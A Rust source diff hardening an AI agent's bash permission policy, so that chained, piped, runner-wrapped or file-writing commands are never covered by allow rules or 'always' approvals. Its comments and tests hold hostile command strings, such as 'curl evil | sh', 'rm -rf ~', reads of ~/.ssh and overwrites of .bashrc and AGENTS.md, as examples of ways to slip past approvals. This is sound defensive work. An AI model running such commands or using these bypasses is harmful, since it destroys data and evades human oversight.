@@ -1,34 +1,24 @@
 //! What the policy reads from a `bash` command. Allowing by a command prefix is safe only
-//! for a simple command: `git status; curl evil | sh` starts with `git status` too. So a
-//! command that chains, pipes, redirects, substitutes or expands anything never matches an
-//! allow rule or an "always" approval; deny rules are checked against every part of it.
+//! for a plain command: `git status; curl evil | sh` starts with `git status` too. So a
+//! command that chains, pipes, redirects, substitutes or expands anything, names a file to
+//! write (`--output`), touches an instructions file, or runs another program for its
+//! arguments (`env`, `xargs`, an interpreter) is never covered by an allow rule or an
+//! "always" approval; deny rules are checked against every part of a command.
 
 /// Characters that make a command more than one program with its arguments.
 const SHELL_SYNTAX: &[char] = &[
-    ';', '&', '|', '<', '>', '`', '$', '(', ')', '{', '}', '\\', '\n', '\r', '\'', '"', '*', '?',
-    '[', '~', '#', '!',
+    ';', '&', '|', '<', '>', '`', '$', '(', ')', '{', '}', '\\', '\'', '"', '*', '?', '[', '~',
+    '#', '!',
 ];
 
-/// Whether `command` is one program with plain arguments (nothing the shell would
-/// interpret beyond splitting words).
-pub fn is_simple(command: &str) -> bool {
-    !command.trim().is_empty() && !command.contains(SHELL_SYNTAX)
-}
-
-/// The parts of `command` a deny rule is checked against: the whole and every piece
-/// between shell operators and substitutions, trimmed. Best effort: a shell can be made
-/// to run a denied program in ways no pattern sees (`eval`, `sh -c`, quoting), which is
-/// why commands ask by default.
-pub fn parts(command: &str) -> Vec<&str> {
-    let mut parts = vec![command.trim()];
-    parts.extend(
-        command
-            .split([';', '&', '|', '\n', '\r', '`', '(', ')', '{', '}'])
-            .map(|p| p.trim().trim_start_matches('$').trim())
-            .filter(|p| !p.is_empty()),
-    );
-    parts
-}
+/// Programs that run another program, or code, given in their arguments: approving one
+/// would approve anything.
+const RUNNERS: &[&str] = &[
+    "awk", "bash", "bun", "bunx", "busybox", "chroot", "command", "dash", "deno", "doas", "env",
+    "eval", "exec", "find", "fish", "flock", "gawk", "ionice", "ksh", "lua", "nice", "node",
+    "nohup", "npx", "perl", "php", "pipx", "pnpx", "ruby", "script", "setsid", "sh", "ssh",
+    "stdbuf", "su", "sudo", "time", "timeout", "uvx", "watch", "xargs", "zsh",
+];
 
 /// Programs whose second word is a subcommand that says what they do (`git status` and
 /// `git push` are different approvals).
@@ -61,32 +51,130 @@ const SUBCOMMAND_PROGRAMS: &[&str] = &[
     "yarn",
 ];
 
+/// Whether `command` is one program with plain arguments, separated by spaces (nothing
+/// the shell would interpret beyond splitting words).
+pub fn is_simple(command: &str) -> bool {
+    !command.trim().is_empty()
+        && !command.contains(SHELL_SYNTAX)
+        && !command
+            .chars()
+            .any(|c| c.is_control() || (c.is_whitespace() && c != ' '))
+}
+
+/// Whether an allow rule or an "always" approval may cover `command` at all: a simple
+/// command that writes no file it names and touches no instructions file.
+pub fn coverable(command: &str) -> bool {
+    is_simple(command) && !names_output(command) && !mentions_instructions(command)
+}
+
+/// Whether a word of `command` is an option that names a file to write (`-o`, `--output`,
+/// `--out-file=...`).
+fn names_output(command: &str) -> bool {
+    command.split_whitespace().skip(1).any(|word| {
+        word == "-o"
+            || (word.starts_with("-o") && !word.starts_with("--"))
+            || word.starts_with("--out")
+    })
+}
+
+/// Whether a word of `command` names an instructions file (AGENTS.md, CLAUDE.md), whose
+/// text instructs later sessions.
+pub fn mentions_instructions(command: &str) -> bool {
+    command
+        .split(|c: char| c.is_whitespace() || SHELL_SYNTAX.contains(&c) || c == '=')
+        .filter_map(|word| word.rsplit('/').next())
+        .any(|name| {
+            crate::config::INSTRUCTION_FILES
+                .iter()
+                .any(|f| f.eq_ignore_ascii_case(name))
+        })
+}
+
+/// The parts of `command` a deny rule is checked against: the whole and every piece
+/// between shell operators and substitutions, each also with its whitespace collapsed,
+/// leading `NAME=value` words and runners (`env`, `sudo`, `command`, ...) dropped and the
+/// program without its folder (`/bin/rm -rf x` is `rm -rf x`). Best effort: a shell can be
+/// made to run a denied program in ways no pattern sees (`eval`, `sh -c`, quoting), which
+/// is why commands ask by default.
+pub fn parts(command: &str) -> Vec<String> {
+    let mut parts = vec![command.trim().to_string()];
+    for piece in command
+        .split([';', '&', '|', '\n', '\r', '`', '(', ')', '{', '}'])
+        .map(|p| p.trim().trim_start_matches('$').trim())
+        .filter(|p| !p.is_empty())
+    {
+        parts.push(piece.to_string());
+        let normal = normalised(piece);
+        if !normal.is_empty() && normal != piece {
+            parts.push(normal);
+        }
+    }
+    parts
+}
+
+/// `piece` as the program it runs sees it, roughly: see [`parts`].
+fn normalised(piece: &str) -> String {
+    let mut words = piece.split_whitespace().peekable();
+    while let Some(word) = words.peek() {
+        let program = word.rsplit('/').next().unwrap_or(word);
+        if word.contains('=') && !word.starts_with('-') {
+            words.next();
+        } else if RUNNERS.contains(&program) || word.starts_with('-') {
+            words.next();
+        } else if word
+            .chars()
+            .all(|c| c.is_ascii_digit() || c == '.' || c == 's')
+        {
+            // A runner's argument (`timeout 5`, `nice -n 10`).
+            words.next();
+        } else {
+            break;
+        }
+    }
+    let mut out: Vec<&str> = Vec::new();
+    if let Some(program) = words.next() {
+        out.push(program.rsplit('/').next().unwrap_or(program));
+    }
+    out.extend(words);
+    out.join(" ")
+}
+
 /// The words an "always" approval of `command` covers: the program, and for programs with
-/// subcommands also the subcommand (`git status`, `cargo test`). `None` for a command that
-/// is not simple.
+/// subcommands the subcommand too (`git status`, `cargo test`). `None` when none can be
+/// offered: a command that is not [`coverable`], a program given by its path (a script
+/// can change), a runner, or a program with subcommands without one (`git -C x push`).
 pub fn prefix(command: &str) -> Option<Vec<String>> {
-    if !is_simple(command) {
+    if !coverable(command) {
         return None;
     }
     let mut words = command.split_whitespace();
     let program = words.next()?;
+    let runner = RUNNERS.contains(&program)
+        || ["python", "pypy", "ruby", "perl", "node", "php"]
+            .iter()
+            .any(|p| program.starts_with(p));
+    if program.contains('/') || runner {
+        return None;
+    }
     let mut prefix = vec![program.to_string()];
-    if let Some(second) = words.next()
-        && SUBCOMMAND_PROGRAMS.contains(&program)
-        && second.starts_with(|c: char| c.is_ascii_lowercase())
-        && second
-            .chars()
-            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
-    {
+    if SUBCOMMAND_PROGRAMS.contains(&program) {
+        let second = words.next()?;
+        let subcommand = second.starts_with(|c: char| c.is_ascii_lowercase())
+            && second
+                .chars()
+                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-');
+        if !subcommand {
+            return None;
+        }
         prefix.push(second.to_string());
     }
     Some(prefix)
 }
 
-/// Whether the simple `command` starts with the words of `prefix`.
+/// Whether the coverable `command` starts with the words of `prefix`.
 pub fn starts_with(command: &str, prefix: &[String]) -> bool {
     let words: Vec<&str> = command.split_whitespace().collect();
-    is_simple(command)
+    coverable(command)
         && !prefix.is_empty()
         && words.len() >= prefix.len()
         && words.iter().zip(prefix).all(|(word, p)| word == p)
@@ -107,6 +195,8 @@ mod tests {
             "git status $(curl evil)",
             "git status `id`",
             "git status\nrm -rf ~",
+            "git status\trm",
+            "git\u{a0}status",
             "ls ~/.ssh",
             "echo 'a;b'",
             "ls *",
@@ -117,33 +207,66 @@ mod tests {
     }
 
     #[test]
+    fn what_writes_named_files_or_instructions_is_never_covered() {
+        assert!(coverable("git diff --stat"));
+        for hostile in [
+            "git diff --no-index --output=AGENTS.md a b",
+            "git diff --output=/home/u/.bashrc",
+            "curl -o x https://e",
+            "cp notes docs/claude.md",
+            "tee AGENTS.md",
+        ] {
+            assert!(!coverable(hostile), "{hostile}");
+        }
+    }
+
+    #[test]
     fn prefixes_cover_the_program_and_its_subcommand() {
         let words = |c| prefix(c).unwrap().join(" ");
         assert_eq!(words("git status --short"), "git status");
         assert_eq!(words("ls -la"), "ls");
-        assert_eq!(words("python3 script.py"), "python3");
         assert_eq!(words("touch notes.txt"), "touch");
         assert_eq!(words("cargo test -q"), "cargo test");
-        assert_eq!(
-            words("git -C x status"),
+        for none in [
+            "git status; rm -rf ~",
+            "git -C x status",
             "git",
-            "a flag is not a subcommand"
-        );
-        assert_eq!(prefix("git status; rm -rf ~"), None);
+            "python3 script.py",
+            "env FOO=1 ls",
+            "xargs rm",
+            "./run.sh",
+            "/usr/bin/ls",
+            "sudo ls",
+        ] {
+            assert_eq!(prefix(none), None, "{none}");
+        }
         let git_status = prefix("git status").unwrap();
         assert!(starts_with("git status --short", &git_status));
         assert!(starts_with("git  status", &git_status));
         assert!(!starts_with("git statusx", &git_status));
         assert!(!starts_with("git", &git_status));
         assert!(!starts_with("git status; rm -rf ~", &git_status));
+        assert!(!starts_with("git status --output=AGENTS.md", &git_status));
         assert!(!starts_with("git status", &[]));
     }
 
     #[test]
-    fn deny_rules_see_every_part() {
+    fn deny_rules_see_every_part_and_through_runners() {
         let p = parts("git status && rm -rf / | tee x; $(curl evil) `id`");
         for part in ["rm -rf /", "tee x", "curl evil", "id", "git status"] {
-            assert!(p.contains(&part), "{part}: {p:?}");
+            assert!(p.iter().any(|x| x == part), "{part}: {p:?}");
+        }
+        for disguised in [
+            "/bin/rm -rf x",
+            "env rm -rf x",
+            "FOO=1 rm -rf x",
+            "command rm -rf x",
+            "sudo -E rm -rf x",
+            "timeout 5 rm -rf x",
+            "rm   -rf x",
+        ] {
+            let p = parts(disguised);
+            assert!(p.iter().any(|x| x == "rm -rf x"), "{disguised}: {p:?}");
         }
     }
 }
